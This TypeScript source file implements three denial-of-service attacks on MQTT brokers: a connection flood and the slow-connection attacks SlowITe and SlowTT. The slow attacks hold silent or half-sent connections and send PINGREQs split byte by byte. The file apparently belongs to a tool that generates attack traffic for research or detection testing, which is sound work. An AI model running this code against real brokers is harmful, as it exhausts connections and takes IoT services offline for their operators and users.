// Exhausting connections: as many as fast as possible, or few and for ever (SlowITe, SlowTT).

import type { Socket } from 'node:net'
import type { Attack, Attacker } from '../attacker.js'
import { connectPacket, PINGREQ } from '../packets.js'

async function open (attacker: Attacker, keepalive: number, clientId: string): Promise<Socket | null> {
  const socket = await attacker.connect()
  if (socket !== null) await attacker.send(socket, connectPacket({ clientId, keepalive, clean: true }))
  return socket
}

/** As many connections as fast as possible. */
export const connectionFlood: Attack = {
  name: 'connection-flood',
  summary: 'connection flood: 4 to 8 addresses open 20 to 40 MQTT connections a second each, hold up to 150 and drop them all',
  attackers: [4, 8],
  async run (attacker) {
    const { chance } = attacker
    const perSecond = chance.between(20, 40)
    let held: Socket[] = []
    for (let opened = 0; opened < 900 && !attacker.over; opened++) {
      void open(attacker, chance.oneOf([0, 60, 300]), chance.text(23)).then(socket => { if (socket !== null) held.push(socket) })
      if (held.length >= 150) {
        for (const socket of held) socket.destroy()
        held = []
      }
      await attacker.pause(1_000 / perSecond)
    }
  }
}

/** SlowITe (Vaccari, Aiello, Cambiaso 2020): connections that say nothing for as long as keepalive lets them. */
export const slowIte: Attack = {
  name: 'slowite',
  summary: 'SlowITe: 3 to 5 addresses hold 60 to 100 silent connections each, CONNECTs with the longest keepalive or a short one opened anew when the broker closes it; some never finish their CONNECT',
  attackers: [3, 5],
  async run (attacker) {
    const { chance } = attacker
    const places = chance.whole(60, 100)
    const keepalive = chance.oneOf([4, 6, 65_535])
    const hold = async (): Promise<void> => {
      while (!attacker.over) {
        const isHalf = chance.happens(0.15)
        const socket = await attacker.connect()
        if (socket === null) {
          await attacker.pause(1_000)
          continue
        }
        const bytes = connectPacket({ clientId: chance.text(16), keepalive })
        await attacker.send(socket, isHalf ? bytes.subarray(0, chance.whole(1, bytes.length - 1)) : bytes)
        await Promise.race([new Promise(resolve => socket.once('close', resolve)), attacker.pause(3_600_000)])
      }
    }
    const holding: Promise<void>[] = []
    for (let i = 0; i < places && !attacker.over; i++) {
      holding.push(hold())
      await attacker.pause(chance.between(40, 120))
    }
    await Promise.all(holding)
  }
}

/** SlowTT (Vaccari, Aiello, Cambiaso 2021): the same, kept alive by the smallest packets just in time. */
export const slowTt: Attack = {
  name: 'slowtt',
  summary: 'SlowTT: 3 to 5 addresses hold 50 to 80 connections each, a PINGREQ just before keepalive ends, and some packets sent byte by byte',
  attackers: [3, 5],
  async run (attacker) {
    const { chance } = attacker
    const places = chance.whole(50, 80)
    const hold = async (): Promise<void> => {
      const keepalive = chance.whole(4, 8)
      const drips = chance.happens(0.3)
      while (!attacker.over) {
        const socket = await open(attacker, keepalive, chance.text(16))
        if (socket === null) {
          await attacker.pause(1_000)
          continue
        }
        while (!socket.destroyed && !attacker.over) {
          await attacker.pause(keepalive * (drips ? 500 : 1_300))
          // Half a PINGREQ now, the other half next time.
          const bytes = drips ? PINGREQ.subarray(socket.bytesWritten % 2 === 0 ? 0 : 1, socket.bytesWritten % 2 === 0 ? 1 : 2) : PINGREQ
          if (!await attacker.send(socket, bytes)) break
        }
      }
    }
    const holding: Promise<void>[] = []
    for (let i = 0; i < places && !attacker.over; i++) {
      holding.push(hold())
      await attacker.pause(chance.between(50, 150))
    }
    await Promise.all(holding)
  }
}
